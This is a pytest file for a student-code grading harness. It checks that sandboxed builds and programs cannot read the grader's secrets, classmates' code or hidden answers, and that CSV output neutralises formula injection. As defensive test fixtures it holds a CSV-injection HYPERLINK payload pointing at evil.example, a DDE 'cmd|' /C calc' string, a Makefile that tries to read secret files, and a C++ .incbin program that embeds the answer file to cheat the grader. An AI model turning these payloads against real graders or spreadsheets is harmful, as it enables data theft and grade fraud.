"""Issue 56, part B: what a box shows (only the student's own copy, the system and the toolchain),
what its environment and command line give away, and what the grader writes out (CSV cells a
student controls, the class folder's absolute path under OUT/students/)."""
import csv
import io
import json
import os
import shutil
import subprocess

import pytest

from harness import cli, similarity
from harness.grading import build as building
from harness.grading.congo_class import grade_congo_class
from harness.grading.nthu_class import grade_nthu_class
from harness.isolation import box, untrusted_run
from harness.isolation.box import BoxSettings
from harness.view import csv_out
from tests.congo_classroom import make_congo_class
from tests.nthu_classroom import make_nthu_class


def read_csv(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_formula_cells_get_a_quote_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "out.csv"
    rows = [{"name": '=HYPERLINK("http://evil.example/?"&A2,"open")', "n": 3},
            {"name": "+1", "n": -3},
            {"name": "@x", "n": 2.5},
            {"name": "-2+3+cmd|' /C calc'!A0", "n": "-3"},
            {"name": "\tx", "n": "2.50"},
            {"name": "\r=1", "n": None},
            {"name": "plain, \"quoted\"", "n": "-0.125"},
            {"name": "-", "n": "1e5"}]
    csv_out.write_csv(str(path), ["name", "n"], rows)
    got = read_csv(path)
    assert [r["name"] for r in got] == ['\'=HYPERLINK("http://evil.example/?"&A2,"open")', "'+1", "'@x",
                                        "'-2+3+cmd|' /C calc'!A0", "'\tx", "'\r=1", "plain, \"quoted\"", "'-"]
    assert [r["n"] for r in got] == ["3", "-3", "2.5", "-3", "2.50", "", "-0.125", "1e5"]


def test_a_row_with_a_field_not_in_the_header_is_refused(tmp_path):
    try:
        csv_out.write_csv(str(tmp_path / "x.csv"), ["a"], [{"a": 1, "b": 2}])
    except ValueError as exc:
        assert "b" in str(exc)
    else:
        raise AssertionError("an unknown field was written")


def test_cell_keeps_bools_as_text():
    assert csv_out.cell(True) == "True"
    assert csv_out.cell(-7) == -7
    assert csv_out.cell("-7x") == "'-7x"
    out = io.StringIO()
    csv.writer(out).writerow([csv_out.cell("=1+1")])
    assert out.getvalue() == "'=1+1\r\n"


# -- what a box shows -------------------------------------------------------------------------------

needs_bwrap = pytest.mark.skipif(box.bwrap()[0] is None, reason="bwrap is not installed or cannot run here")
needs_toolchain = pytest.mark.skipif(shutil.which("g++") is None or shutil.which("make") is None,
                                     reason="g++ and make build the NTHU and Congo programs")
FIXED_PATH = "/usr/local/bin:/usr/bin:/bin"
SECRET = "ta-secret-77e1"
CLASSMATE = "classmate-source-5c2a"
STUDENT = "mallory_the_attacker"


@pytest.fixture
def grader_folder(tmp_path, monkeypatch):
    """The TA's working folder, as a TA grades: a secret beside the class and OUT, the class with a
    classmate, OUT below; the grader runs from there (relative paths), with a PATH of its own."""
    home = tmp_path / "course"
    (home / "class" / "bob" / "src").mkdir(parents=True)
    (home / "secret.txt").write_text(SECRET + "\n")
    (home / "class" / "bob" / "src" / "mine.cpp").write_text(f"// {CLASSMATE}\n")
    (home / "out" / "students" / "bob").mkdir(parents=True)
    (home / "out" / "gradebook-draft.csv").write_text("student\n")
    monkeypatch.chdir(home)
    monkeypatch.setenv("PATH", f"{home}/bin:" + os.environ["PATH"])
    return home


@needs_bwrap
@needs_toolchain
def test_a_makefile_sees_neither_the_graders_folder_nor_classmates_nor_out(grader_folder):
    """On the old code the build's box showed the grader's working folder (home_of gave the cwd for
    `/bin/sh`): the log held the secret, bob's source and OUT's listing."""
    make_nthu_class("class", ["greedy"])
    repo = grader_folder / "class" / STUDENT
    os.rename("class/greedy", repo)
    (repo / "Makefile").write_text(
        "submission:\n"
        f"\t-cat {grader_folder}/secret.txt ../../../secret.txt\n"
        f"\t-cat {grader_folder}/class/bob/src/mine.cpp ../../../class/bob/src/mine.cpp\n"
        f"\t-ls {grader_folder}/out ../.. ../../.. {grader_folder}\n"
        "\t-echo PATH=$$PATH; cat /proc/1/cmdline; echo\n"
        "\tg++ -o build/player_submission src/state/state.cpp src/policy/submission.cpp src/player/submission.cpp\n")
    copy = grader_folder / "out" / "students" / STUDENT / "repo"
    copy.parent.mkdir(parents=True)
    result = building.build("class/" + STUDENT, str(copy), BoxSettings())
    log = result["log"]
    assert "cat: ../../../secret.txt: No such file or directory" in log and result["build"] == "ok"
    assert SECRET not in log and CLASSMATE not in log
    assert "gradebook-draft.csv" not in log and "bob" not in log.replace("class/bob/src", "")
    assert f"PATH={FIXED_PATH}\n" in log
    cmdline = log.split(f"PATH={FIXED_PATH}\n")[1].splitlines()[0]       # bwrap's, NUL-separated
    assert " --args ".replace(" ", "\0") in cmdline and "--ro-bind" not in cmdline and STUDENT not in cmdline


def print_box(tmp_path, program_text):
    """A program in OUT/students/STUDENT/src that prints what it sees, run boxed as the Congo grader
    runs one (its folder shown, nothing written)."""
    folder = tmp_path / "out" / "students" / STUDENT / "src"
    folder.mkdir(parents=True)
    program = folder / "probe"
    program.write_text(program_text)
    program.chmod(0o755)
    finished = untrusted_run.run([str(program)], b"", 30.0, 1 << 20, BoxSettings())
    assert finished.status == 0, finished.errors
    return finished.output.decode()


@needs_bwrap
def test_the_box_reads_no_path_of_out_nor_the_student_in_its_process_1_and_has_the_fixed_path(tmp_path, monkeypatch):
    """On the old code /proc/1/cmdline was bubblewrap's whole command line (every bind: OUT's path,
    the student's name) and PATH was the grader's."""
    monkeypatch.setenv("PATH", "/opt/ta-tools/bin:" + os.environ["PATH"])
    seen = print_box(tmp_path, "#!/bin/sh\ntr '\\0' ' ' < /proc/1/cmdline; echo; echo \"PATH=$PATH\"\n")
    first, path = seen.splitlines()[:2]
    assert first.startswith(box.bwrap()[0] + " --args ")
    assert STUDENT not in first and str(tmp_path) not in first
    assert path == f"PATH={FIXED_PATH}"


@needs_bwrap
def test_a_students_file_in_the_sandbox_sees_the_fixed_path_and_a_bare_process_1(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("PATH", "/opt/ta-tools/bin:" + os.environ["PATH"])
    folder = tmp_path / "class" / STUDENT
    folder.mkdir(parents=True)
    (folder / "AB.py").write_text(
        "import os\n"
        "print('CMD', open('/proc/1/cmdline', 'rb').read().replace(b'\\0', b' ').decode())\n"
        "print('PATH', os.environ.get('PATH'))\n"
        "def studentAgent(gameboard):\n    return None\n")
    out = tmp_path / "series"
    assert cli.main(["series", "--white", str(folder / "AB.py"), "--black", "dummy", "--games", "1",
                     "--max-plies", "2", "--out", str(out), "--progress", "none", "--jobs", "1"]) == 0
    capsys.readouterr()
    printed = json.loads((out / "results.jsonl").read_text().splitlines()[0])["printed"]["white"]
    cmd = next(line for line in printed.splitlines() if line.startswith("CMD "))
    assert STUDENT not in cmd and str(tmp_path) not in cmd and " --args " in cmd
    assert f"PATH {FIXED_PATH}" in printed.splitlines()


WHERE_AM_I = ("import os\n"
              "print('CWD', os.getcwd())\n"
              "print('PROC', os.readlink('/proc/self/cwd'))\n"
              "print('FILE', os.path.abspath(__file__))\n"
              "print('ROOT', sorted(os.listdir('/')))\n"
              "print('BOX', sorted(os.listdir('/box')))\n")


@needs_bwrap
def test_a_students_file_in_the_box_sees_its_folder_at_a_fixed_path_naming_no_class_nor_student(tmp_path, capsys):
    """On the old code the student's folder was shown at its own path: os.getcwd() and
    /proc/self/cwd named the class folder and the student."""
    folder = tmp_path / "class" / STUDENT
    folder.mkdir(parents=True)
    (folder / "AB.py").write_text(WHERE_AM_I + "def studentAgent(gameboard):\n    return None\n")
    out = tmp_path / "series"
    assert cli.main(["series", "--white", str(folder / "AB.py"), "--black", "dummy", "--games", "1",
                     "--max-plies", "2", "--out", str(out), "--progress", "none", "--jobs", "1"]) == 0
    capsys.readouterr()
    printed = json.loads((out / "results.jsonl").read_text().splitlines()[0])["printed"]["white"]
    lines = dict(line.split(" ", 1) for line in printed.splitlines() if line[:4] in ("CWD ", "PROC", "FILE", "ROOT", "BOX "))
    assert (lines["CWD"], lines["PROC"], lines["FILE"]) == ("/box/student", "/box/student", "/box/student/AB.py")
    assert "'box'" in lines["ROOT"] and lines["BOX"] == "['student']"
    assert STUDENT not in printed and str(tmp_path) not in printed


@needs_bwrap
def test_a_program_and_a_build_in_the_box_see_fixed_paths_naming_no_out_nor_student(tmp_path):
    """A Congo program sees its copy at /box/student and works in /tmp/run; a build works in its
    copy at /box/work. On the old code both named OUT/students/STUDENT (their folder, argv[0])."""
    seen = print_box(tmp_path, "#!/usr/bin/python3\nimport sys\n" + WHERE_AM_I.replace("__file__", "sys.argv[0]"))
    assert "CWD /tmp/run" in seen and "FILE /box/student/probe" in seen
    assert STUDENT not in seen and str(tmp_path) not in seen
    copy = tmp_path / "out" / "students" / STUDENT / "repo"
    copy.mkdir(parents=True)
    (copy / "probe.py").write_text(WHERE_AM_I.replace("__file__", "'probe.py'"))
    finished = untrusted_run.run(["/usr/bin/python3", "probe.py"], b"", 30.0, 1 << 20, BoxSettings(), workdir=str(copy))
    built = finished.output.decode()
    assert finished.status == 0, finished.errors
    assert "CWD /box/work" in built and "FILE /box/work/probe.py" in built and "BOX ['work']" in built
    assert STUDENT not in built and str(tmp_path) not in built


# Congo: eval1.cpp embeds the hidden answers (OUT/expected/eval1.json) with .incbin and prints their
# strings in order: with the answers readable it scores every case without evaluating anything.
INCBIN_EVAL1 = r'''
#include <cstdio>
#include <cstring>
#include <string>
__asm__(".section .rodata\n.global answers\nanswers:\n.incbin \"%s\"\n.byte 0\n.text\n");
extern "C" const char answers[];
int main() {
    const char *p = std::strstr(answers, "\"expected\"");
    if (!p) return 1;
    p += 10;
    while ((p = std::strchr(p, '"'))) {
        const char *end = std::strchr(p + 1, '"');
        if (!end) break;
        std::printf("%%s\n", std::string(p + 1, end).c_str());
        p = end + 1;
    }
    return 0;
}
'''


@needs_bwrap
@needs_toolchain
@pytest.mark.parametrize("where", ["relative", "absolute"])
def test_a_congo_program_cannot_embed_the_hidden_answers(grader_folder, where):
    """On the old code the build's box showed the grader's working folder, OUT/expected with it:
    the .incbin built and the attacker scored every eval1 case."""
    make_congo_class("class", ["cpp_right"])
    attacker = grader_folder / "class" / STUDENT
    attacker.mkdir()
    target = "../../../expected/eval1.json" if where == "relative" else f"{grader_folder}/out2/expected/eval1.json"
    (attacker / "eval1.cpp").write_text(INCBIN_EVAL1 % target)
    gradebook = grade_congo_class("class", "out2", count=6, seed=3, run_timeout=30.0, case_timeout=5.0, jobs=2,
                                  say=lambda text: None)
    rows = {row["student"]: row for row in gradebook["students"]}
    eval1 = rows[STUDENT]["parts"]["eval1"]
    assert (eval1["build"], eval1["passed"]) == ("failed", 0)
    assert rows["cpp_right"]["parts"]["eval1"] == {"passed": 6, "cases": 6, "build": "ok"}
    expected = grader_folder / "out2" / "expected"
    assert oct(expected.stat().st_mode & 0o777) == "0o700"
    assert oct((expected / "eval1.json").stat().st_mode & 0o777) == "0o600"
    # the build's error names its own temporary file in the box's /tmp, no path of the grader's
    # (the absolute attack's own source and its error quote the path it wrote)
    students = grader_folder / "out2" / "students"
    assert absolute_paths(students if where == "relative" else students / "cpp_right", grader_folder) == []


@needs_bwrap
@needs_toolchain
def test_a_relative_out_grades_congo_programs_and_writes_no_absolute_path_under_students(grader_folder):
    """On the old code every program of a relative --out failed to start: every student scored 0."""
    make_congo_class("class", ["cpp_right", "exe_moves"])
    shutil.rmtree("class/bob")
    assert cli.main(["grade", "class", "--variant", "congo", "--out", "rel-out", "--cases", "4", "--seed", "2",
                     "--jobs", "2", "--quiet"]) == 0
    rows = {row["student"]: row for row in json.loads((grader_folder / "rel-out" / "gradebook.json").read_text())["students"]}
    assert (rows["cpp_right"]["score"], rows["exe_moves"]["score"]) == (42.9, 14.3)
    assert [rows["cpp_right"]["parts"][p]["passed"] for p in ("moves", "apply", "eval1")] == [4, 4, 4]
    assert absolute_paths(grader_folder / "rel-out" / "students", grader_folder) == []


def absolute_paths(folder, base):
    """Files under `folder` whose text holds `base` (the TA's absolute path)."""
    found = []
    for where, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(where, name)
            with open(path, "rb") as handle:
                if str(base).encode() in handle.read():
                    found.append(os.path.relpath(path, folder))
    return found


# -- what the grader writes out ---------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("evil.example?"&A1,"open")'


def test_similarity_csv_neutralises_student_names(tmp_path):
    cls = tmp_path / "class"
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "fixtures", "similarity", "matrix.py")) as handle:
        text = handle.read()
    for name in (HYPERLINK, "+1", "@x"):
        (cls / name).mkdir(parents=True)
        (cls / name / "main.py").write_text(text)
    outcome = similarity.run(str(cls), str(tmp_path / "out"), share=1.0, default_refs=False, jobs=1,
                             say=lambda line: None)
    rows = read_csv(outcome.paths["csv"])
    names = {row["a"] for row in rows} | {row["b"] for row in rows}
    assert names == {"'" + HYPERLINK, "'+1", "'@x"}
    assert sorted(row["rank"] for row in rows) == ["1", "2", "3"] and {row["similarity"] for row in rows} == {"1.0000"}


def test_a_cs3243_gradebook_neutralises_names_and_file_names(tmp_path):
    cls = tmp_path / "class"
    (cls / HYPERLINK).mkdir(parents=True)
    (cls / HYPERLINK / "AB.py").write_text("def studentAgent(gameboard:\n")
    (cls / "-2+3.py").write_text("def studentAgent(gameboard):\n    return None\n")
    assert cli.main(["grade", str(cls), "--out", str(tmp_path / "out"), "--games", "1", "--opponents", "dummy",
                     "--jobs", "1", "--progress", "none", "--quiet"]) == 0
    rows = {row["student"]: row for row in read_csv(tmp_path / "out" / "gradebook.csv")}
    assert set(rows) == {"'" + HYPERLINK, "'-2+3"}
    assert rows["'-2+3"]["file"] == "'-2+3.py" and rows["'" + HYPERLINK]["file"] == "'" + HYPERLINK + "/AB.py"
    assert [rows[name]["points"] for name in sorted(rows)] == ["0.0", "0.0"]


@needs_toolchain
def test_an_nthu_gradebook_neutralises_names_and_build_errors(tmp_path):
    cls = tmp_path / "class"
    make_nthu_class(str(cls), ["greedy"])
    shutil.copytree(cls / "greedy", cls / "@x")
    os.rename(cls / "greedy", cls / HYPERLINK)
    for name in (HYPERLINK, "@x"):
        (cls / name / "Makefile").write_text("submission:\n\t@echo '+SUM(1,2) error here'; exit 1\n")
    gradebook = grade_nthu_class(str(cls), str(tmp_path / "out"), move_timeout=1.0, jobs=2, progress="none",
                                 say=lambda text: None, build_timeout=60.0)
    assert [row["build"] for row in gradebook["students"]] == ["failed", "failed"]
    rows = read_csv(tmp_path / "out" / "gradebook.csv")
    assert [row["student"] for row in rows] == ["'" + HYPERLINK, "'@x"]
    assert all(row["build_errors"].startswith("'+SUM(1,2) error here") for row in rows)
    assert [row["points"] for row in rows] == ["0", "0"]


def test_a_congo_gradebook_neutralises_names(tmp_path):
    cls = make_congo_class(str(tmp_path / "class"), ["exe_moves"])
    os.rename(os.path.join(cls, "exe_moves"), os.path.join(cls, "+1"))
    os.makedirs(os.path.join(cls, HYPERLINK))
    grade_congo_class(cls, str(tmp_path / "out"), count=3, seed=1, jobs=1, say=lambda text: None)
    rows = {row["student"]: row for row in read_csv(tmp_path / "out" / "gradebook.csv")}
    assert set(rows) == {"'+1", "'" + HYPERLINK}
    assert (rows["'+1"]["moves_passed"], rows["'+1"]["score"]) == ("3", "14.3")
    assert rows["'" + HYPERLINK]["moves_build"] == "missing"


def test_no_stray_module_writes_csv():
    """Every CSV goes through harness/view/csv_out.py."""
    root = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "harness")
    found = subprocess.run(["grep", "-rlE", r"csv\.(writer|DictWriter)", root], capture_output=True, text=True)
    assert found.stdout.split() == [os.path.join(root, "view", "csv_out.py")]
